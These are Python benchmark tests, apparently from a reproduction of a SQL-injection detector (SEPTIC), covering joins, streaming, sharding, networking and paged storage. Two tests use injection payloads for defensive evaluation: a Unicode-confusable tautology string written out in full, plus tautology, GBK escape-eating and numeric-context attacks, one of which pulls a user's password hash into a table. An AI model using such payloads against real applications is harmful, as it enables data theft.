    if charset == "utf8_strict":
        # the legacy endpoint's connection is also strict in this world
        app.php_gbk.connection.charset = "utf8_strict"
    return app


def _attack_outcomes(app):
    """(unicode_tautology_succeeded, gbk_succeeded, numeric_succeeded)."""
    unicode_resp = app.handle(Request.get(
        "/history", {"serial": payloads.UNICODE_TAUTOLOGY}
    ))
    unicode_ok = "7200" in unicode_resp.body
    app.handle(Request.post("/feedback", {
        "author": "eve", "message": payloads.GBK_EXFILTRATION,
    }))
    import hashlib
    alice = hashlib.md5(b"alicepw").hexdigest()
    gbk_ok = any(
        row.get("message") == alice
        for row in app.database.table("feedback").rows
    )
    numeric_resp = app.handle(Request.get(
        "/device", {"serial": "x", "pin": payloads.NUMERIC_TAUTOLOGY}
    ))
    numeric_ok = "WM-200-B" in numeric_resp.body
    return unicode_ok, gbk_ok, numeric_ok


def test_ablation_charset_artifact(report, benchmark):
    def run_both():
        return _attack_outcomes(_app("utf8")), \
            _attack_outcomes(_app("utf8_strict"))

    mysql_like, strict = benchmark.pedantic(run_both, rounds=1,
                                            iterations=1)
    mark = lambda ok: "pwned" if ok else "safe"  # noqa: E731
    report.line("Ablation — DBMS decoding quirks on vs off")
    report.line("(same application, same payloads, different decoder)")
    report.line()
    report.table(
        ["channel", "mysql-like decoder", "strict decoder"],
        [
            ["unicode confusable", mark(mysql_like[0]), mark(strict[0])],
            ["GBK escape-eating", mark(mysql_like[1]), mark(strict[1])],
            ["numeric context", mark(mysql_like[2]), mark(strict[2])],
        ],
        widths=[22, 20, 16],
    )
    report.line()
    report.line(
        "The decoding-dependent channels vanish under a strict decoder;\n"
        "the numeric-context channel needs no decoding and survives —\n"
        "it is an application bug no decoder can absolve."
    )
    report.metric("mysql_like_channels_open", sum(mysql_like), "channels")
    report.metric("strict_decoder_channels_open", sum(strict), "channels")
    # mysql-like: all three channels open
    assert mysql_like == (True, True, True)
    # strict: decoding channels closed, numeric context still open
    assert strict[0] is False
    assert strict[1] is False
    assert strict[2] is True
