"""E14b — join strategy scaling: hash equi-join vs nested loop.

Three table sizes, same INNER JOIN on an integer equi-key.  With the
hash join enabled the executor builds a hash table on the smaller side
and probes it (O(n + m)); with it disabled the legacy nested loop
evaluates the ON predicate n × m times.  The bench times both across
the sizes, asserts the growth shapes (hash ~linear, nested-loop
super-linear), and pins the chosen strategy through EXPLAIN.

A top-k section measures ORDER BY + LIMIT with and without the heap
fusion, asserting identical rows and the plan counters.
"""

import time

from repro.sqldb.engine import Database

SIZES = (50, 100, 200)


def _build(size):
    database = Database()
    database.run(
        "CREATE TABLE orders (id INT PRIMARY KEY, cust INT, total INT)"
    )
    database.run(
        "CREATE TABLE custs (id INT PRIMARY KEY, name VARCHAR(30))"
    )
    for i in range(size):
        database.run(
            "INSERT INTO orders VALUES (%d, %d, %d)"
            % (i, i % (size // 2), i * 3 % 97)
        )
    for i in range(size // 2):
        database.run(
            "INSERT INTO custs VALUES (%d, 'cust%d')" % (i, i)
        )
    return database

JOIN_SQL = (
    "SELECT o.id, c.name FROM orders o "
    "JOIN custs c ON o.cust = c.id WHERE o.total >= 0"
)


def _time_join(database, repeats=3):
    best = None
    rows = None
    for _ in range(repeats):
        start = time.perf_counter()
        rows = database.run(JOIN_SQL)[0].result_set.rows
        elapsed = time.perf_counter() - start
        best = elapsed if best is None else min(best, elapsed)
    return best, rows


def test_join_scaling(report):
    hash_times, nested_times = [], []
    for size in SIZES:
        database = _build(size)
        executor = database._executor
        executor.enable_hash_join = True
        t_hash, rows_hash = _time_join(database)
        before = executor.plan_stats["hash_joins"]
        database.run(JOIN_SQL)
        assert executor.plan_stats["hash_joins"] == before + 1
        # EXPLAIN pins the strategy: probe table joined by hash
        explain = database.run("EXPLAIN " + JOIN_SQL)[0].result_set.rows
        assert [r[0] for r in explain] == ["orders", "custs"]
        assert explain[1][1] == "hash"
        assert explain[1][2] == "id"
        executor.enable_hash_join = False
        t_nested, rows_nested = _time_join(database)
        explain = database.run("EXPLAIN " + JOIN_SQL)[0].result_set.rows
        assert explain[1][1] == "ALL"
        # both strategies must emit identical rows in identical order
        assert rows_hash == rows_nested
        assert len(rows_hash) == size
        hash_times.append(t_hash)
        nested_times.append(t_nested)
    report.line("Join scaling — INNER JOIN on equi-key, %s rows"
                % (SIZES,))
    report.line()
    report.table(
        ["rows", "hash join", "nested loop", "ratio"],
        [
            ["%d" % size, "%.4f ms" % (h * 1e3), "%.4f ms" % (n * 1e3),
             "%.1fx" % (n / h)]
            for size, h, n in zip(SIZES, hash_times, nested_times)
        ],
    )
    hash_growth = hash_times[-1] / hash_times[0]
    nested_growth = nested_times[-1] / nested_times[0]
    report.line()
    report.line("growth %dx input: hash %.1fx, nested %.1fx"
                % (SIZES[-1] // SIZES[0], hash_growth, nested_growth))
    report.metric("hash_join_growth_4x_input", round(hash_growth, 2), "x")
    report.metric("nested_loop_growth_4x_input", round(nested_growth, 2),
                  "x")
    report.metric("hash_vs_nested_at_%d" % SIZES[-1],
                  round(nested_times[-1] / hash_times[-1], 2), "x")
    # 4x input: linear -> ~4x, quadratic -> ~16x.  The hash join must
    # grow sub-quadratically and clearly slower than the nested loop.
    assert hash_growth < 8.0, "hash join grew %.1fx on 4x input" % \
        hash_growth
    assert nested_growth > hash_growth * 1.5, (
        "nested loop grew %.1fx vs hash %.1fx — expected super-linear "
        "vs ~linear" % (nested_growth, hash_growth)
    )
    # at the largest size the hash join must win outright
    assert hash_times[-1] < nested_times[-1]


def test_topk_order_limit(report):
    database = _build(200)
    executor = database._executor
    sql = "SELECT id, total FROM orders ORDER BY total DESC, id LIMIT 10"
    executor.enable_topk = True
    start = time.perf_counter()
    topk_rows = database.run(sql)[0].result_set.rows
    t_topk = time.perf_counter() - start
    assert executor.plan_stats["topk_orders"] >= 1
    executor.enable_topk = False
    start = time.perf_counter()
    full_rows = database.run(sql)[0].result_set.rows
    t_full = time.perf_counter() - start
    assert executor.plan_stats["full_sorts"] >= 1
    assert topk_rows == full_rows
    assert len(topk_rows) == 10
    report.line("Top-k ORDER BY + LIMIT 10 over 200 rows")
    report.line("heap top-k: %.4f ms, full sort: %.4f ms"
                % (t_topk * 1e3, t_full * 1e3))
    report.metric("topk_ms_200_rows", round(t_topk * 1e3, 4), "ms")
    report.metric("full_sort_ms_200_rows", round(t_full * 1e3, 4), "ms")
