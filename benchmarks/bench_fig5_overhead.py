"""E5 — Figure 5: SEPTIC's average-latency overhead on the three
applications (PHP Address Book, refbase, ZeroCMS), four detection
configurations (NN/YN/NY/YY), 20 browsers on 4 machines.

Paper: overheads between 0.5% and 2.2%; YN ≈ 0.8%; similar per app.
We assert the reproduced *shape*: every overhead is positive and small
(< 4%), YY is the most expensive configuration, and all apps land in the
same band.
"""

from repro.apps import AddressBook, Refbase, ZeroCMS
from repro.benchlab.harness import run_benchlab, run_overhead_experiment

APPS = [AddressBook, Refbase, ZeroCMS]
PAPER = {"NN": 0.005, "YN": 0.008, "NY": None, "YY": 0.022}


def test_figure5_artifact(report, benchmark):
    table = benchmark.pedantic(
        run_overhead_experiment,
        args=(APPS,),
        kwargs={"loops": 4, "repeats": 3},
        rounds=1, iterations=1,
    )
    report.line("Figure 5 — average latency overhead of SEPTIC")
    report.line("(20 browsers / 4 machines; paper band: 0.5%% .. 2.2%%)")
    report.line()
    configs = ("NN", "YN", "NY", "YY")
    report.table(
        ["app"] + list(configs),
        [
            [app] + ["%.2f%%" % (table[app][c] * 100) for c in configs]
            for app in sorted(table)
        ],
    )
    for app in sorted(table):
        for config in configs:
            report.metric("overhead_%s_%s" % (app, config),
                          round(table[app][config] * 100, 3), "%")
    report.line()
    report.line("paper reports: NN=0.5%  YN=0.8%  YY=2.2%")
    report.line()
    report.line("measured SEPTIC hook time (the overhead's numerator):")
    septic_us = {}
    for app in sorted(table):
        results = table[app]["_results"]
        row = []
        for config in configs:
            res = results[config]
            row.append(1e6 * res.measured_seconds / max(res.requests, 1))
        septic_us[app] = dict(zip(configs, row))
    report.table(
        ["app"] + ["%s (µs/req)" % c for c in configs],
        [
            [app] + ["%.1f" % septic_us[app][c] for c in configs]
            for app in sorted(septic_us)
        ],
        widths=[14, 14, 14, 14, 14],
    )
    for app, row in table.items():
        for config in configs:
            # every configuration lands in (a small band around) the
            # paper's 0.5%..2.2% overhead range
            assert -0.005 < row[config] < 0.04, (app, config, row[config])
    # the ordering claim is made on the measured hook time, where it is
    # not buried under scheduler noise: enabling detection costs more
    # than the NN floor (QS build + ID + lookup only)
    total = {c: sum(septic_us[a][c] for a in septic_us) for c in configs}
    assert total["YY"] > total["NN"]
    for config in ("YN", "NY"):
        assert total[config] > total["NN"] * 0.95, (config, total)


def test_bench_one_benchlab_run_baseline(benchmark):
    result = benchmark.pedantic(
        run_benchlab, args=(Refbase, None),
        kwargs={"machines": 4, "browsers_per_machine": 5, "loops": 2},
        rounds=1, iterations=1,
    )
    assert result.requests == 4 * 5 * 2 * 14


def test_bench_one_benchlab_run_yy(benchmark):
    result = benchmark.pedantic(
        run_benchlab, args=(Refbase, "YY"),
        kwargs={"machines": 4, "browsers_per_machine": 5, "loops": 2},
        rounds=1, iterations=1,
    )
    assert result.measured_seconds > 0
