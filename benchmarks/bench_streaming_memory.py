"""E15 — streaming execution memory: LIMIT pipelines stay O(limit).

The plan/execute split made every non-blocking operator a lazy
generator, so a ``LIMIT n`` query without ORDER BY must stop pulling
rows the moment the n-th result is produced — both the scan row count
and the peak number of rows buffered by any blocking operator must be
bounded by the limit, not the table.  The top-k section shows the same
query *with* ORDER BY: the bounded heap keeps materialization at
O(limit) while the legacy full sort buffers the whole table.

Gates (the streaming property the lint gate protects, measured):

* scan rows-out for ``LIMIT n``   <= 4 * n  (table is 500x larger)
* peak_materialized for ``LIMIT`` <= 4 * n
* peak_materialized for ORDER BY + LIMIT with the heap <= 4 * n,
  and >= table size with the heap disabled (the contrast proves the
  counter measures something real).
"""

from repro.sqldb.engine import Database

ROWS = 2000
LIMIT = 10


def _build():
    database = Database()
    database.run(
        "CREATE TABLE events (id INT PRIMARY KEY AUTO_INCREMENT, val INT)"
    )
    for start in range(0, ROWS, 100):
        values = ", ".join(
            "(%d)" % (i * 13 % (ROWS + 1)) for i in range(start, start + 100)
        )
        database.run("INSERT INTO events (val) VALUES %s" % values)
    return database


def _run(database, sql):
    """Rows, scan rows-out and peak materialization for one query."""
    executor = database._executor
    executor.plan_stats["peak_materialized_rows"] = 0
    rows = database.run(sql)[0].result_set.rows
    stats = executor.last_stage_stats
    scans = stats.find("seq_scan")
    scan_out = scans[0]["rows_out"] if scans else 0
    return rows, scan_out, stats.peak_materialized_rows


def test_streaming_memory(report):
    database = _build()
    executor = database._executor

    plain_sql = "SELECT id, val FROM events WHERE val >= 0 LIMIT %d" % LIMIT
    rows, scan_out, peak = _run(database, plain_sql)
    assert len(rows) == LIMIT

    order_sql = ("SELECT id, val FROM events ORDER BY val, id LIMIT %d"
                 % LIMIT)
    executor.enable_topk = False
    sort_rows, sort_scan, sort_peak = _run(database, order_sql)
    executor.enable_topk = True
    heap_rows, heap_scan, heap_peak = _run(database, order_sql)
    assert heap_rows == sort_rows
    assert len(heap_rows) == LIMIT

    report.line("Streaming memory — %d-row table, LIMIT %d"
                % (ROWS, LIMIT))
    report.line()
    report.table(
        ["query", "scan rows", "peak buffered"],
        [
            ["LIMIT (no ORDER BY)", scan_out, peak],
            ["ORDER BY + full sort", sort_scan, sort_peak],
            ["ORDER BY + top-k heap", heap_scan, heap_peak],
        ],
        widths=[24, 12, 15],
    )
    report.line()
    report.line("streaming LIMIT reads %d/%d rows (%.1f%% of table)"
                % (scan_out, ROWS, 100.0 * scan_out / ROWS))
    report.metric("limit_scan_rows", scan_out, "rows")
    report.metric("limit_peak_materialized", peak, "rows")
    report.metric("full_sort_peak_materialized", sort_peak, "rows")
    report.metric("topk_peak_materialized", heap_peak, "rows")

    # -- the gates ---------------------------------------------------------
    assert scan_out <= 4 * LIMIT, (
        "LIMIT %d pulled %d rows through the scan — the pipeline is "
        "materializing, not streaming" % (LIMIT, scan_out)
    )
    assert peak <= 4 * LIMIT, (
        "LIMIT %d buffered %d rows — O(limit) memory is broken"
        % (LIMIT, peak)
    )
    # ORDER BY must read everything either way …
    assert sort_scan == ROWS and heap_scan == ROWS
    # … but only the full sort may buffer the whole table
    assert sort_peak >= ROWS, (
        "full sort buffered only %d rows — the peak counter is not "
        "measuring blocking operators" % sort_peak
    )
    assert heap_peak <= 4 * LIMIT, (
        "top-k heap buffered %d rows for LIMIT %d — the heap bound "
        "regressed to a full sort" % (heap_peak, LIMIT)
    )
