"""Sharded scale-out: routed throughput vs fleet size, gather memory,
and the kill-a-primary-at-every-boundary crash sweep.

Three headline gates for the sharding PR:

* **≥ 3× single-shard-routed throughput at 4 shards** — the virtual-time
  DES (:func:`repro.benchlab.harness.run_scaleout_experiment`) prices
  each shard as a serial FIFO and routes seeded keys through the *real*
  partitioning function, with a 5% scatter tax that occupies every
  shard;
* **cross-shard TopK materializes O(limit), not O(rows)** — the
  merge-``TopK`` gather keeps a bounded heap of ``LIMIT+OFFSET``
  entries per statement regardless of how many rows the shards stream
  up;
* **the sharded crash sweep is clean across 3 seeds** — killing any
  shard's primary at every commit boundary, with a scatter read issued
  mid-failover each time, loses no acked row, resurrects no unacked
  row, and never serves a torn cross-shard snapshot.
"""

import shutil
import tempfile

from repro.benchlab.crashsweep import (
    format_sharded_result,
    run_sharded_sweep,
)
from repro.benchlab.harness import run_scaleout_experiment
from repro.shard import ShardRouter

SWEEP_SEEDS = (7, 11, 23)
TOPK_ROWS = 240
TOPK_LIMIT = 5


def _routed_workload(router):
    """A keyed-heavy mixed workload through the router; returns the
    single-shard route fraction."""
    router.query_or_raise(
        "CREATE TABLE accounts (owner VARCHAR(16) PRIMARY KEY, "
        "amount INT)")
    owners = ["user%03d" % index for index in range(48)]
    for index, owner in enumerate(owners):
        router.query_or_raise(
            "INSERT INTO accounts (owner, amount) VALUES ('%s', %d)"
            % (owner, index * 7 % 101))
    for owner in owners:
        router.query_or_raise(
            "SELECT amount FROM accounts WHERE owner = '%s'" % owner)
    for turn in range(8):
        router.query_or_raise("SELECT COUNT(*), SUM(amount) FROM accounts")
    stats = router.stats
    routed = sum(stats[k] for k in
                 ("single_shard", "scatter", "broadcast", "pinned"))
    return stats["single_shard"] / float(routed)


def _topk_peak(router):
    """Stream TOPK_ROWS rows up through a merge-TopK gather; returns
    (peak_materialized, total_rows)."""
    router.query_or_raise(
        "CREATE TABLE big (k VARCHAR(16) PRIMARY KEY, v INT)")
    for index in range(TOPK_ROWS):
        router.query_or_raise(
            "INSERT INTO big (k, v) VALUES ('row%04d', %d)"
            % (index, (index * 37) % 1009))
    outcome = router.query_or_raise(
        "SELECT k, v FROM big ORDER BY v DESC, k LIMIT %d" % TOPK_LIMIT)
    assert len(outcome.rows) == TOPK_LIMIT
    return router.last_gather_stats.peak_materialized_rows, TOPK_ROWS


def test_sharded_scaleout(report):
    one = run_scaleout_experiment(shards=1)
    two = run_scaleout_experiment(shards=2)
    four = run_scaleout_experiment(shards=4)
    factor = four.throughput / one.throughput

    workdir = tempfile.mkdtemp(prefix="bench-shard-")
    try:
        with ShardRouter(workdir + "/fleet", shards=4) as router:
            single_fraction = _routed_workload(router)
            peak, total_rows = _topk_peak(router)
            fleet_status = router.status()
        sweeps = [run_sharded_sweep(workdir, seed, shards=2, writes=6)
                  for seed in SWEEP_SEEDS]
    finally:
        shutil.rmtree(workdir, ignore_errors=True)

    report.line("sharded scale-out (virtual-time DES, 5%% scatter, "
                "%d clients)" % one.clients)
    report.line()
    report.table(
        ("shards", "req/s", "factor", "balance"),
        tuple((r.shards, "%.0f" % r.throughput,
               "%.2fx" % (r.throughput / one.throughput),
               "%.2f" % r.balance_ratio)
              for r in (one, two, four)),
        widths=(8, 12, 10, 10),
    )
    report.line()
    report.line("routed workload @ 4 shards: %.0f%% single-shard routed, "
                "epoch=%d" % (single_fraction * 100,
                              fleet_status["catalog_epoch"]))
    report.line("cross-shard TopK: %d rows streamed, %d materialized "
                "(limit %d)" % (total_rows, peak, TOPK_LIMIT))
    report.line()
    for seed, sweep in zip(SWEEP_SEEDS, sweeps):
        report.line(format_sharded_result(sweep))
        report.line()

    report.metric("scale_out_factor", round(factor, 2), "x")
    report.metric("throughput_1_shard", round(one.throughput, 1), "req/s")
    report.metric("throughput_4_shards", round(four.throughput, 1),
                  "req/s")
    report.metric("single_shard_route_fraction",
                  round(single_fraction, 3), "fraction")
    report.metric("gather_peak_rows_topk", peak, "rows")
    report.metric("sweep_kills", sum(s.kills for s in sweeps), "kills")
    report.metric("sweep_torn_reads",
                  sum(len(s.torn_reads) for s in sweeps), "reads")
    report.metric("sweep_lost_rows", sum(s.lost_rows for s in sweeps),
                  "rows")

    # the PR's acceptance gates
    assert factor >= 3.0, (
        "4-shard throughput only %.2fx a single shard" % factor)
    assert peak <= TOPK_LIMIT, (
        "merge-TopK materialized %d rows for LIMIT %d (should be "
        "O(limit), streamed %d rows total)" % (peak, TOPK_LIMIT,
                                               total_rows))
    for seed, sweep in zip(SWEEP_SEEDS, sweeps):
        assert sweep.ok, "seed %r:\n%s" % (seed,
                                           format_sharded_result(sweep))
