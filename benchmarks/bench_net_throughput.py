"""Socket front-end throughput: pipelining + pooling vs round trips,
and group-commit fsync amortization.

Two headline gates for the PR-9 front end:

* **pipelined+pooled ≥ 3× one-query-per-round-trip** at 8 concurrent
  client threads — the baseline is the unoptimized web-tier client: a
  fresh connection per query (no pooling), one command per round trip
  (no pipelining).  The pooled side reuses connections and statement
  handles; the pipelined side ships a 16-command window as one coalesced
  send, one server executor hop and one response burst.  The persistent
  round-trip discipline (keep the connection, still one query per round
  trip) is reported alongside to split the two contributions;
* **group-commit fsyncs ≤ ¼ of per-commit mode** for the same write
  workload — concurrent commits coalesce into shared fsyncs, and an OK
  frame is still only written after the fsync covering it.
"""

import shutil
import tempfile
import threading
import time

from repro.net.client import NetClient
from repro.net.pool import ConnectionPool
from repro.net.server import NetServer
from repro.sqldb.engine import Database

SCHEMA = """
CREATE TABLE tickets (
    id INT PRIMARY KEY AUTO_INCREMENT,
    reservID VARCHAR(20),
    creditCard INT
);
INSERT INTO tickets (reservID, creditCard) VALUES
    ('ID34FG', 1234), ('ZZ11AA', 9999), ('QQ77MM', 4321);
"""

CONNECTIONS = 8
QUERIES_PER_CONNECTION = 150
WINDOW = 16

#: the hot-path query: literal text, so repeat sends ride the pipeline
#: cache — both disciplines get the same warm engine
HOT_QUERY = "SELECT reservID, creditCard FROM tickets WHERE id = 1"


def _run_threads(worker):
    threads = [threading.Thread(target=worker, args=(index,))
               for index in range(CONNECTIONS)]
    start = time.perf_counter()
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return time.perf_counter() - start


def _naive_qps(server):
    """The unoptimized client: a fresh connection per query, one query
    per round trip (the PHP-without-persistent-connections shape)."""
    errors = []

    def worker(_index):
        try:
            for _ in range(QUERIES_PER_CONNECTION):
                with NetClient(server.host, server.port) as client:
                    assert client.query(HOT_QUERY).ok
        except Exception as exc:  # surfaced after join
            errors.append(exc)

    elapsed = _run_threads(worker)
    assert not errors, errors
    return CONNECTIONS * QUERIES_PER_CONNECTION / elapsed


def _round_trip_qps(server):
    """Persistent connection, still one query per round trip."""
    errors = []

    def worker(_index):
        try:
            with NetClient(server.host, server.port) as client:
                for _ in range(QUERIES_PER_CONNECTION):
                    outcome = client.query(HOT_QUERY)
                    assert outcome.ok
        except Exception as exc:  # surfaced after join
            errors.append(exc)

    elapsed = _run_threads(worker)
    assert not errors, errors
    return CONNECTIONS * QUERIES_PER_CONNECTION / elapsed


def _pipelined_qps(server, pool):
    """Windowed pipelining over pooled connections."""
    errors = []

    def worker(_index):
        try:
            with pool.connection() as client:
                remaining = QUERIES_PER_CONNECTION
                while remaining:
                    burst = min(WINDOW, remaining)
                    for _ in range(burst):
                        client.send_query(HOT_QUERY)
                    for outcome in client.drain(burst):
                        assert outcome.ok
                    remaining -= burst
        except Exception as exc:
            errors.append(exc)

    elapsed = _run_threads(worker)
    assert not errors, errors
    return CONNECTIONS * QUERIES_PER_CONNECTION / elapsed


def _commit_fsyncs(wal_sync, batch_commits=1):
    """Run the same concurrent write workload against a durable server
    in *wal_sync* mode; returns (fsync_calls, commits)."""
    data_dir = tempfile.mkdtemp(prefix="bench-net-")
    try:
        database = Database.recover(data_dir, wal_sync=wal_sync,
                                    wal_batch_commits=batch_commits)
        for statement in SCHEMA.strip().rstrip(";").split(";"):
            database.run(statement)
        wal = database.wal
        fsyncs_before = wal.fsync_calls
        commits_before = wal.commits
        errors = []
        with NetServer(database) as server:
            def worker(index):
                try:
                    with NetClient(server.host, server.port) as client:
                        for turn in range(25):
                            client.send_query(
                                "INSERT INTO tickets (reservID, creditCard)"
                                " VALUES ('W%d_%d', %d)"
                                % (index, turn, turn)
                            )
                        for outcome in client.drain():
                            assert outcome.ok
                except Exception as exc:
                    errors.append(exc)

            _run_threads(worker)
        assert not errors, errors
        database.close()
        return (wal.fsync_calls - fsyncs_before,
                wal.commits - commits_before)
    finally:
        shutil.rmtree(data_dir, ignore_errors=True)


def test_net_throughput(report):
    database = Database()
    database.seed(SCHEMA)
    with NetServer(database) as server:
        naive_qps = _naive_qps(server)
        rt_qps = _round_trip_qps(server)
        pool = ConnectionPool(server.host, server.port, size=CONNECTIONS,
                              server=server)
        try:
            piped_qps = _pipelined_qps(server, pool)
        finally:
            pool.close()
        stats = server.stats_dict()

    speedup = piped_qps / naive_qps

    batch_fsyncs, batch_commits = _commit_fsyncs("batch",
                                                 batch_commits=10 ** 6)
    percommit_fsyncs, percommit_commits = _commit_fsyncs("commit")
    assert batch_commits == percommit_commits
    fsync_ratio = batch_fsyncs / max(1, percommit_fsyncs)

    report.line("socket front end @ %d connections, %d queries each"
                % (CONNECTIONS, QUERIES_PER_CONNECTION))
    report.line()
    report.table(
        ("discipline", "qps", "speedup"),
        (("connect-per-query", "%.0f" % naive_qps, "1.00x"),
         ("persistent round-trip", "%.0f" % rt_qps,
          "%.2fx" % (rt_qps / naive_qps)),
         ("pipelined+pooled", "%.0f" % piped_qps, "%.2fx" % speedup)),
        widths=(24, 12, 10),
    )
    report.line()
    report.line("server: %d commands in %d executor batches"
                % (stats["commands"], stats["batches"]))
    report.line()
    report.line("group commit (%d commits across %d connections):"
                % (batch_commits, CONNECTIONS))
    report.table(
        ("wal mode", "fsyncs", "per commit"),
        (("per-commit", percommit_fsyncs,
          "%.2f" % (percommit_fsyncs / max(1, percommit_commits))),
         ("group-commit", batch_fsyncs,
          "%.2f" % (batch_fsyncs / max(1, batch_commits)))),
        widths=(14, 10, 12),
    )

    report.metric("connect_per_query_qps", round(naive_qps, 1),
                  "queries/s")
    report.metric("round_trip_qps", round(rt_qps, 1), "queries/s")
    report.metric("pipelined_qps", round(piped_qps, 1), "queries/s")
    report.metric("pipelining_speedup", round(speedup, 2), "x")
    report.metric("group_commit_fsyncs", batch_fsyncs, "fsyncs")
    report.metric("per_commit_fsyncs", percommit_fsyncs, "fsyncs")
    report.metric("fsync_ratio", round(fsync_ratio, 3), "fraction")

    # the PR's acceptance gates
    assert speedup >= 3.0, "pipelining speedup %.2fx below 3x" % speedup
    assert fsync_ratio <= 0.25, (
        "group commit used %d fsyncs vs %d per-commit (ratio %.2f > 0.25)"
        % (batch_fsyncs, percommit_fsyncs, fsync_ratio)
    )
