"""E4 — Figure 4: the syntax-mimicry attack and its syntactical
detection (step 2, node-by-node comparison).
"""

from repro.core.detector import AttackDetector
from repro.core.query_model import QueryModel
from repro.core.query_structure import QueryStructure
from repro.sqldb.charset import decode_query
from repro.sqldb.engine import Database
from repro.sqldb.parser import parse_one
from repro.sqldb.validator import validate

TICKET_SQL = ("SELECT * FROM tickets WHERE reservID = 'ID34FG' "
              "AND creditCard = 1234")
ATTACK_SQL = ("SELECT * FROM tickets WHERE reservID = "
              "'ID34FGʼ AND 1=1-- ' AND creditCard = 0")


def _setup():
    database = Database()
    database.seed(
        "CREATE TABLE tickets (id INT PRIMARY KEY AUTO_INCREMENT, "
        "reservID VARCHAR(20), creditCard INT);"
    )
    model = QueryModel.from_structure(QueryStructure.from_stack(
        validate(parse_one(TICKET_SQL), database.tables)
    ))
    attack_qs = QueryStructure.from_stack(
        validate(parse_one(decode_query(ATTACK_SQL)), database.tables)
    )
    return model, attack_qs


def test_figure4_artifact(report, benchmark):
    model, attack_qs = _setup()
    detector = AttackDetector()
    detection = benchmark(detector.detect_sqli, attack_qs, model)
    report.line("attack input (reservID): ID34FGʼ AND 1=1--  "
                "(prime = U+02BC)")
    report.line()
    report.line("Figure 4 — QS of the mimicry attack:")
    report.line(attack_qs.render())
    report.line()
    report.line("node counts: QS=%d == QM=%d (step 1 passes)"
                % (len(attack_qs), len(model)))
    report.line("detection: %s at step %d (%s)" % (
        detection.attack_type, detection.step, detection.detail))
    report.metric("detection_step", detection.step, "step")
    assert detection.is_attack and detection.step == 2
    assert len(attack_qs) == len(model) == 9


def test_bench_node_by_node_comparison(benchmark):
    """Step 2 in isolation on equal-length stacks."""
    model, attack_qs = _setup()
    detector = AttackDetector()
    detection = benchmark(detector.detect_sqli, attack_qs, model)
    assert detection.step == 2


def test_bench_benign_full_match(benchmark):
    """The common case: a benign query matching all nine nodes."""
    database = Database()
    database.seed(
        "CREATE TABLE tickets (id INT PRIMARY KEY AUTO_INCREMENT, "
        "reservID VARCHAR(20), creditCard INT);"
    )
    model = QueryModel.from_structure(QueryStructure.from_stack(
        validate(parse_one(TICKET_SQL), database.tables)
    ))
    benign = QueryStructure.from_stack(validate(
        parse_one("SELECT * FROM tickets WHERE reservID = 'OTHER' "
                  "AND creditCard = 42"),
        database.tables,
    ))
    detector = AttackDetector()
    assert not benchmark(detector.detect_sqli, benign, model).is_attack
