"""E18 — paged storage under pressure, as a regenerable artifact.

Three claims from the paged-storage work, measured in one artifact
(``out/BENCH_paged_storage.json``):

1. *Bounded residency* — a working set several times the buffer pool
   completes with ``pages_cached <= capacity`` throughout (the pool
   evicts, it never balloons).
2. *Warm-scan overhead* — once the working set is resident, full scans
   through the paged backend stay within 1.5x the in-memory backend.
3. *Crash + corruption sweeps* — kill-at-every-page-write/doublewrite
   offset over three seeds (0 lost commits, 0 phantom rows, every torn
   page repaired) and a seeded bit-flip sweep (100% detection, 0 false
   repairs).
"""

import shutil
import tempfile
import time

from repro.benchlab.crashsweep import (
    format_corruption_result,
    format_paged_sweep_result,
    run_corruption_sweep,
    run_paged_crash_sweep,
)
from repro.sqldb.engine import Database

SWEEP_SEEDS = (1, 2, 3)

CREATE = ("CREATE TABLE t (id INT AUTO_INCREMENT PRIMARY KEY, "
          "name VARCHAR(40), qty INT)")
FILL = "INSERT INTO t (name, qty) VALUES ('payload-%04d-%s', %d)"


def _bounded_residency(workdir):
    """240 rows into 512-byte pages under a 4-frame pool."""
    db = Database.recover(workdir + "/residency", seed=1,
                          storage="paged", page_size=512, pool_pages=4)
    db.run(CREATE)
    peak = 0
    for i in range(240):
        db.run(FILL % (i, "x" * 12, i))
        peak = max(peak, db.storage_stats()["pages_cached"])
    stats = db.storage_stats()
    table_pages = len(db.tables["t"].pages())
    db.close()
    return peak, stats, table_pages


def _warm_scan(workdir):
    """Best-of timings for warm full scans, paged vs in-memory."""
    probe = "SELECT id, name, qty FROM t ORDER BY id"
    memory = Database.recover(workdir + "/mem", seed=1)
    paged = Database.recover(workdir + "/warm", seed=1,
                             storage="paged", page_size=4096,
                             pool_pages=64)
    for db in (memory, paged):
        db.run(CREATE)
        for i in range(200):
            db.run(FILL % (i, "x" * 12, i))

    def best_of(db, reps=5, scans=10):
        timings = []
        for _ in range(reps):
            start = time.perf_counter()
            for _ in range(scans):
                rows = db.run(probe)[0].result_set.rows
            timings.append((time.perf_counter() - start) / scans)
        return min(timings), rows

    best_of(paged, reps=1, scans=2)    # warm the pool
    mem_s, mem_rows = best_of(memory)
    paged_s, paged_rows = best_of(paged)
    memory.close()
    paged.close()
    assert paged_rows == mem_rows
    return mem_s, paged_s


def test_paged_storage(report, benchmark):
    workdir = tempfile.mkdtemp(prefix="paged-storage-")
    try:
        def run():
            residency = _bounded_residency(workdir)
            warm = _warm_scan(workdir)
            crash = []
            for seed in SWEEP_SEEDS:
                start = time.perf_counter()
                crash.append((run_paged_crash_sweep(workdir, seed),
                              time.perf_counter() - start))
            corrupt = [run_corruption_sweep(workdir, seed, flips=6)
                       for seed in SWEEP_SEEDS]
            return residency, warm, crash, corrupt

        residency, warm, crash, corrupt = benchmark.pedantic(
            run, rounds=1, iterations=1)
    finally:
        shutil.rmtree(workdir, ignore_errors=True)

    peak, stats, table_pages = residency
    mem_s, paged_s = warm
    ratio = paged_s / mem_s

    report.line("E18a — bounded residency: 240 rows into 512-byte pages "
                "under a 4-frame pool")
    report.line()
    report.line("table pages:        %d (%.1fx the pool)"
                % (table_pages, table_pages / float(stats["capacity"])))
    report.line("peak resident:      %d / %d frames"
                % (peak, stats["capacity"]))
    report.line("evictions:          %d" % stats["evictions"])
    report.line("dirty steals:       %d" % stats["dirty_flushes"])
    report.line()
    report.line("E18b — warm full scans, 200 rows (best of 5 x 10 scans)")
    report.line()
    report.line("in-memory backend:  %.3f ms/scan" % (mem_s * 1e3))
    report.line("paged (warm pool):  %.3f ms/scan" % (paged_s * 1e3))
    report.line("ratio:              %.2fx (budget 1.5x)" % ratio)
    report.line()
    report.line("E18c — kill at every page-write/doublewrite offset, "
                "then seeded bit-flip corruption")
    report.line()
    for result, elapsed in crash:
        report.line("%s  (%.1fs)" % (format_paged_sweep_result(result),
                                     elapsed))
    report.line()
    for result in corrupt:
        report.line(format_corruption_result(result))
    report.line()

